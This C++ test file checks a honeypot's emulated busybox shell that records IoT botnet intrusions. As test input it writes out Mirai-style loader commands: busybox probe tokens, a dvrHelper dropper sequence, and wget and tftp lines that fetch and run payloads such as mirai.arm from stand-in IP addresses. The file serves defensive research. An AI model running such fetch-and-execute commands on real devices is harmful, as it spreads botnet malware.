#include <gtest/gtest.h>

#include <asio/co_spawn.hpp>
#include <asio/io_context.hpp>
#include <asio/use_future.hpp>

#include "honeypot/shell.hpp"

namespace darkscope {
namespace {

std::string run(EmulatedShell& shell, const std::string& line, FetchFunction fetch = {}) {
  asio::io_context io;
  auto f = asio::co_spawn(io, shell.run(line, std::move(fetch)), asio::use_future);
  io.run();
  return f.get().text;
}

EmulatedShell dvr() { return EmulatedShell(find_device_profile("dvr"), ShellLimits{}); }

TEST(ShellParse, OperatorsQuotesAndRedirections) {
  const ParsedLine p = parse_shell_line(
      "cd /tmp || cd /var; echo 'a b' \"c\\\"d\" >x && cat x | grep a 2>/dev/null >> y 2>&1 # c");
  ASSERT_EQ(p.error, "");
  ASSERT_EQ(p.pipelines.size(), 4u);
  EXPECT_EQ(p.pipelines[0].run_if, Pipeline::RunIf::Always);
  EXPECT_EQ(p.pipelines[1].run_if, Pipeline::RunIf::Failure);
  EXPECT_EQ(p.pipelines[2].run_if, Pipeline::RunIf::Always);
  EXPECT_EQ(p.pipelines[3].run_if, Pipeline::RunIf::Success);
  const auto& echo = p.pipelines[2].commands[0];
  ASSERT_EQ(echo.argv.size(), 3u);
  EXPECT_EQ(echo.argv[1], "a b");
  EXPECT_EQ(echo.argv[2], "c\"d");
  ASSERT_EQ(echo.redirects.size(), 1u);
  EXPECT_EQ(echo.redirects[0].target, "x");
  ASSERT_EQ(p.pipelines[3].commands.size(), 2u);
  const auto& grep = p.pipelines[3].commands[1];
  ASSERT_EQ(grep.redirects.size(), 3u);
  EXPECT_EQ(grep.redirects[0].fd, 2);
  EXPECT_EQ(grep.redirects[0].target, "/dev/null");
  EXPECT_EQ(grep.redirects[1].kind, Redirect::Kind::Append);
  EXPECT_EQ(grep.redirects[2].kind, Redirect::Kind::DupToStdout);
}

TEST(ShellParse, SyntaxErrors) {
  EXPECT_EQ(parse_shell_line("; ls").error, "syntax error: unexpected \";\"");
  EXPECT_EQ(parse_shell_line("ls >").error, "syntax error: unexpected newline");
  EXPECT_EQ(parse_shell_line("ls &&").error, "syntax error: unexpected end of file");
  EXPECT_TRUE(parse_shell_line("").pipelines.empty());
}

TEST(ShellEcho, HexAndOctalEscapes) {
  EXPECT_EQ(expand_echo_escapes("\\x6b\\x61\\x6d\\x69"), "kami");
  EXPECT_EQ(expand_echo_escapes("\\0101\\102\\n"), "AB\n");
  EXPECT_EQ(expand_echo_escapes("\\x7f\\x45\\x4c\\x46"), "\x7f" "ELF");
  bool stop = false;
  EXPECT_EQ(expand_echo_escapes("ab\\cde", &stop), "ab");
  EXPECT_TRUE(stop);
}

TEST(Shell, BusyboxTokensAndApplets) {
  auto shell = dvr();
  EXPECT_EQ(run(shell, "/bin/busybox MIRAI"), "MIRAI: applet not found\n");
  EXPECT_EQ(run(shell, "/bin/busybox ECCHI; /bin/busybox IHCCE"),
            "ECCHI: applet not found\nIHCCE: applet not found\n");
  EXPECT_EQ(run(shell, "enable"), "-sh: enable: not found\n");
  EXPECT_EQ(run(shell, "/bin/busybox echo hi"), "hi\n");
  EXPECT_EQ(run(shell, "uname -m"), "armv7l\n");
  EXPECT_EQ(run(shell, "uname -a"),
            "Linux (none) 3.0.8 #1 Wed Jun 18 17:07:35 CST 2014 armv7l GNU/Linux\n");
  const std::string usage = run(shell, "/bin/busybox wget");
  EXPECT_EQ(usage.rfind("BusyBox v1.20.2 (2014-06-18 17:07:35 CST) multi-call binary.\n\nUsage: wget ", 0), 0u);
  EXPECT_EQ(usage.find("applet not found"), std::string::npos);
}

TEST(Shell, ProcMountsListsWritableTmpfs) {
  auto shell = dvr();
  const std::string mounts = run(shell, "/bin/busybox cat /proc/mounts");
  EXPECT_NE(mounts.find("tmpfs /tmp tmpfs rw"), std::string::npos);
  EXPECT_NE(mounts.find("/dev/root / squashfs ro"), std::string::npos);
}

TEST(Shell, EchoWritesBytesAndCatReturnsThem) {
  auto shell = dvr();
  EXPECT_EQ(run(shell, "cd /tmp"), "");
  EXPECT_EQ(shell.cwd(), "/tmp");
  EXPECT_EQ(run(shell, "echo -e '\\x6b\\x61\\x6d\\x69' > .nippon; /bin/busybox cat .nippon; rm .nippon; cat .nippon"),
            "kami\ncat: can't open '.nippon': No such file or directory\n");
  EXPECT_EQ(run(shell, "echo -ne '\\x01\\x02' > f; echo -ne '\\x03' >> f; cat /tmp/f"), "\x01\x02\x03");
}

TEST(Shell, ReadOnlyRootAndUnknownDirectory) {
  auto shell = dvr();
  EXPECT_EQ(run(shell, "echo x > /x"), "-sh: can't create /x: Read-only file system\n");
  EXPECT_EQ(run(shell, "cd /nonexistent"), "-sh: cd: can't cd to /nonexistent\n");
  EXPECT_EQ(run(shell, "cd /nonexistent || cd /var && pwd"), "-sh: cd: can't cd to /nonexistent\n/var\n");
}

TEST(Shell, CatBinEchoIsElfOfProfileArchitecture) {
  auto shell = dvr();
  const std::string arm = run(shell, "/bin/busybox cat /bin/echo");
  ASSERT_GE(arm.size(), 52u);
  EXPECT_EQ(arm.substr(0, 7), std::string("\x7f" "ELF\x01\x01\x01", 7));
  EXPECT_EQ(static_cast<unsigned char>(arm[18]), 40);  // EM_ARM, little endian
  EXPECT_EQ(arm[19], 0);
  EmulatedShell router(find_device_profile("router"), ShellLimits{});
  const std::string mips = run(router, "cat /bin/echo");
  EXPECT_EQ(mips.substr(0, 7), std::string("\x7f" "ELF\x01\x02\x01", 7));
  EXPECT_EQ(mips[18], 0);
  EXPECT_EQ(mips[19], 8);  // EM_MIPS, big endian
  EXPECT_EQ(mips[43], 32);  // e_phentsize (big endian)
}

TEST(Shell, MiraiLoaderDropperSteps) {
  auto shell = dvr();
  run(shell, "cd /tmp/");
  EXPECT_EQ(run(shell, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"),
            "ECCHI: applet not found\n");
  EXPECT_EQ(run(shell, "echo -ne '\\x7f\\x45\\x4c\\x46' >> dvrHelper; /bin/busybox ECCHI"), "ECCHI: applet not found\n");
  EXPECT_EQ(run(shell, "ls -l dvrHelper"), "-rwxrwxrwx    1 root     root             4 Jan  1 00:00 dvrHelper\n");
  EXPECT_EQ(run(shell, "./dvrHelper loader.echo; /bin/busybox IHCCE"), "IHCCE: applet not found\n");
  const auto files = shell.fs().written_files();
  ASSERT_EQ(files.size(), 1u);
  EXPECT_EQ(files[0].first, "/tmp/dvrHelper");
  EXPECT_EQ(files[0].second, "\x7f" "ELF");
}

TEST(Shell, WgetUsesFetchAndWritesFile) {
  auto shell = dvr();
  run(shell, "cd /tmp");
  std::string seen_url;
  FetchFunction fetch = [&seen_url](FetchRequest req) -> asio::awaitable<FetchResult> {
    seen_url = req.url;
    FetchResult r;
    r.ok = true;
    r.body = "PAYLOAD";
    co_return r;
  };
  run(shell, "wget http://203.0.113.5:8080/bins/mirai.arm -O - > dvrHelper", fetch);
  EXPECT_EQ(seen_url, "http://203.0.113.5:8080/bins/mirai.arm");
  EXPECT_EQ(run(shell, "cat dvrHelper"), "PAYLOAD");
  run(shell, "/bin/busybox tftp -g -r x.sh -l y.sh 198.51.100.7", fetch);
  EXPECT_EQ(seen_url, "tftp://198.51.100.7/x.sh");
  EXPECT_EQ(run(shell, "cat y.sh"), "PAYLOAD");
  // Without a fetcher the download fails the way busybox reports a refused connection.
  EXPECT_EQ(run(shell, "wget -q http://203.0.113.5/a"),
            "wget: can't connect to remote host (203.0.113.5): Connection refused\n");
}

TEST(Shell, DownloadedScriptIsInterpretedNotExecuted) {
  auto shell = dvr();
  run(shell, "cd /tmp");
  std::vector<std::string> urls;
  FetchFunction fetch = [&urls](FetchRequest req) -> asio::awaitable<FetchResult> {
    urls.push_back(req.url);
    FetchResult r;
    r.ok = true;
    r.body = req.url.find(".sh") != std::string::npos
                 ? "#!/bin/sh\ncd /tmp; wget http://203.0.113.9/x.arm7; chmod +x x.arm7; ./x.arm7\n"
                 : "\x7f" "ELFBIN";
    co_return r;
  };
  run(shell, "wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh", fetch);
  ASSERT_EQ(urls.size(), 2u);
  EXPECT_EQ(urls[1], "http://203.0.113.9/x.arm7");
}

TEST(Shell, FileLimitIsEnforced) {
  ShellLimits limits;
  limits.max_file_bytes = 8;
  EmulatedShell shell(find_device_profile("dvr"), limits);
  EXPECT_EQ(run(shell, "echo -n 12345678 > /tmp/a"), "");
  EXPECT_EQ(run(shell, "echo -n 9 >> /tmp/a"), "-sh: can't create /tmp/a: No space left on device\n");
  EXPECT_EQ(shell.fs().bytes_used(), 8u);
}

TEST(Shell, ExitEndsSession) {
  auto shell = dvr();
  asio::io_context io;
  auto f = asio::co_spawn(io, shell.run("echo bye; exit; echo never", {}), asio::use_future);
  io.run();
  const ShellOutput out = f.get();
  EXPECT_TRUE(out.exit);
  EXPECT_EQ(out.text, "bye\n");
}

}  // namespace
}  // namespace darkscope
